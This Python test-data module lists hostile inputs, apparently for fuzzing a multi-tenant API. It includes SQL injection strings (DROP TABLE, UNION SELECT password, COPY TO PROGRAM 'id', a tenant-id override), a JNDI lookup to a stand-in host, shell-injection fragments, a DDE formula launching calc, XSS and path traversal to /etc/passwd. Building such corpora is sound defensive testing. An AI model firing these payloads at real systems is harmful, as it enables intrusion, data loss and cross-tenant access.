"""Texts, numbers and names that have broken somebody's software before."""

from __future__ import annotations

SQL = (
    "'", '"', "';--", "' OR '1'='1", "'); DROP TABLE customers; --", "' UNION SELECT password FROM users --",
    "\\'; SELECT pg_sleep(9); --", "$$; SELECT 1; $$", "%s", "%(tenant)s", "%", "{0}", ":tenant", "?", "$1",
    "'||(SELECT current_user)||'", "0); SELECT set_config('app.tenant_id', '', false); --",
    "x' AND tenant_id <> tenant_id --", "1;COPY (SELECT 1) TO PROGRAM 'id'", "E'\\x27'", "/*", "*/", "--",
)  # fmt: skip
LIKE = ("%", "_", "%%", "\\", "\\%", "%_%_%_%_%_%_%_%_%", "a%b", "_" * 200, "%" * 200, "\\\\", "%\\")
JSON_PATH = (
    "$", "$.*", "$[*]", "$..*", '"', '"]', '["', "{}", "[]", "null", '{"$ne": null}', "needs.text",
    "@>", "?|",
    '$.** ? (@ like_regex "^(a+)+$")', "\\u0000", '"\\u0000"', "'::jsonb",
)  # fmt: skip
SLOW = (
    "a" * 5000 + "!", "(" * 300, "((a+)+)+$", "a@" * 300, "." * 1000 + "com", "0" * 4000, " " * 3000 + "x",
    "\\" * 1999, '"' + "\\" * 1001, "http://" + "a." * 400, "-" * 500, "1" * 4400, "a-" * 500,
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"http://a.example\")",
    "=IMPORTXML(A1)", '"=1+1"', "；=1",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{facts}", "{field.__class__}", "{problem!r}", "%(name)s",
    "{", "}", "{}", "{0.__globals__}", "<script>alert(1)</script>", "</title><svg onload=alert(1)>",
    "javascript:alert(1)", "${jndi:ldap://a.example/x}", "`id`", "$(id)", "|id", ";id",
)  # fmt: skip
HEADERS = (
    "a\r\nSet-Cookie: x=1", "a\nb", "a\rb", "a\r\n\r\n<html>", "\r\n", "\x0b\x0c", "\x1b[2J", "\x7f", "\x85",
)  # fmt: skip
UNICODE = (
    "Ⅷ", "ﬁ", "é", "e\u0301", "\u202eevil", "\u2066x\u2069", "\u200b", "\ufeff", "pаypal", "１２３", "٣",
    "İstanbul", "ß", "ſ", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "𝕋", "\ufffe", "\uffff",
    "\U0010ffff", "\ue000", "\u0300" * 300, "汉字", "ﷺ" * 20, "\u00ad", "\u3164",
)  # fmt: skip
NULLS = ("\0", "a\0b", "\0" * 100)
PATHS = (
    "../../etc/passwd", "..", ".", "/", "//", "%2e%2e%2f", "%00", "%", "customers/", "customers//", "/x",
    "customers/*", "customers/-", "customers/a/b", "users/services", "services/access", "organizations/-",
    "customers/" + "9" * 300, "customers/%2F", "customers/\u2028", "opportunities/x", "customers/x:win",
    "customers/'; --", "customers/00000000-0000-0000-0000-000000000000",
)  # fmt: skip
LONG = ("x" * 64, "x" * 201, "x" * 2001, "x" * 70_000, "客" * 3000, "\U0001f600" * 500)
TEXTS = ("", " ", *SQL, *LIKE, *JSON_PATH, *SLOW, *FORMULAS, *TEMPLATES, *HEADERS, *UNICODE, *NULLS, *PATHS,
         *LONG)  # fmt: skip
# What a person might really have typed into a text field, hostile or not: it is stored as it is.
STORED = (*SQL, *LIKE[:10], *JSON_PATH, *FORMULAS, *TEMPLATES, *UNICODE, *PATHS[:12])

DECIMALS = (
    "NaN", "nan", "Infinity", "-Infinity", "inf", "1e400", "1E5", "-0", "0.0", "+5", ".5", "5.", ".", "-", "",
    "0x10", "1_000", "1,5", "９", "٣", " 1 ", "1 2", "--1", "99999999999999999999", "922337203685477.5807",
    "922337203685477.5808", "-922337203685477.5808", "0.00001", "0.0001", "1.00000", "1" * 400, "0" * 400,
    "-1", "100", "100.0001", "1e-9999", "'", "1;", "\n1",
)  # fmt: skip
CURRENCIES = ("CNY", "USD", "JPY", "XXX", "cny", "CN", "CNYY", "", "ＣＮＹ", "C Y", "\0\0\0", "123", "ÄÖÜ")
WHOLE = (0, 1, -1, 2, 50, 200, 201, 1000, 2**15, 2**31 - 1, -(2**31), 99, 1_000_000)
LARGE = (*WHOLE, 2**53, 2**63 - 1, -(2**63), 900_000_000_000_000, 900_000_000_000_001)
NANOS = (0, 1, -1, 100_000, 999_900_000, 999_999_999, -999_999_999, 10**9, 2**31 - 1, -(2**31))
SECONDS = (
    0,
    1,
    -1,
    -62135596800,
    -62135596801,
    253402300799,
    253402300800,
    2**63 - 1,
    -(2**63),
    1_800_000_000,
)
DATES = (
    (2026, 1, 31), (0, 0, 0), (2026, 0, 0), (2026, 2, 30), (9999, 12, 31), (10_000, 1, 1), (1, 1,
    1), (-1, 1, 1),
    (2026, 13, 1), (2**31 - 1, 1, 1), (2028, 2, 29), (0, 2, 3),
)  # fmt: skip
MASKS = ("*", "", "name", "etag", "display_name", "title", "state", "a.b.c", "lines",
    "lines.quantity", "no_such",
         "lines[0]", "..", "display_name.x", "tenant_id", "version", "x" * 500,
    "displayName", "create_time")  # fmt: skip

# Bombs and riddles in the filter language of lists.
FILTERS = (
    "(" * 200 + "x=1" + ")" * 200, "(" * 8 + "name=1" + ")" * 8, " AND ".join(["name=1"] * 60),
    " OR ".join(["name=1"] * 50), " ".join(["name:x"] * 51), "NOT " * 100 + "name=1", "-" * 100 + "name=1",
    "name", "name=", "=1", "AND", "OR", "NOT", "()", ")", "(", '"', "'", 'name="', 'name="\\', "name = \\",
    "name=1 AND", "name=1 OR OR name=2", "a.b.c=1", "tenant_id=1", "tenant_id:x", "version=1", "id=1", "1=1",
    "true", "*", "name:*", 'name:"%"', 'display_name:"%_%"', 'display_name="\' OR 1=1"', "name=null",
    "create_time=null", "create_time>now()", "create_time>9999-12-31T23:59:59-14:00",
    "create_time<0001-01-01T00:00:00+14:00", 'create_time="infinity"', "create_time=2026-02-30",
    "create_time>1", "state=NOPE", "state:OPEN", "state=0", "amount>1e400", "amount=NaN", "amount=٣",
    "amount.currency=CNY", "amount.currency:\"'\"", "amount.nope=1", "lines.product:\"x\"",
    "lines=1", "lines:1",
    "lines.text:\"%\"", "tags:\"'\"", "tags=\"\\u0000\"", "owner=users/me", "owner:\"\\\\\"",
    "name=" + "9" * 3900, "name=" + "x" * 5000, 'name="' + "\\" * 3900, "name:" + "%" * 3000, "name=\"\r\n\"",
    "ｎａｍｅ=1", "name＝1", "name\u00a0=\u00a01", "name=\ufeff", "name=1;DROP TABLE x", "name=1--",
    "name=(SELECT 1)", "name!=", "name<>1", "name==1", "name=>1", "name~1", "name in (1)", "name LIKE 'x'",
    "delete_time=null", "delete_time!=null", "x" * 4001, "search_text:x", "name_key=1", "etag=1",
)  # fmt: skip
ORDERS = (
    "name", "name desc", "name asc, name desc", "create_time desc", "display_name", "title,title,title,title",
    "a,b,c,d,e", "name;", "name--", "(SELECT 1)", "1", "name nulls first", "tenant_id", "lines",
    "version desc",
    ",", ",,,", " ", "name desc desc", "id", "NAME", "name\0", "x" * 3000, "name,", "amount",
    "amount.currency",
    "-name", "+name", "name DESC", "pg_sleep(9)", "random()", "name COLLATE \"C\"",
)  # fmt: skip
TOKENS = (
    "",
    "x",
    "AAAA",
    "====",
    "-" * 2000,
    "eyJhbGciOiJub25lIn0",
    "\u00e9",
    "A" * 16 + "W10",
    "*",
    "A" * 100_000,
)
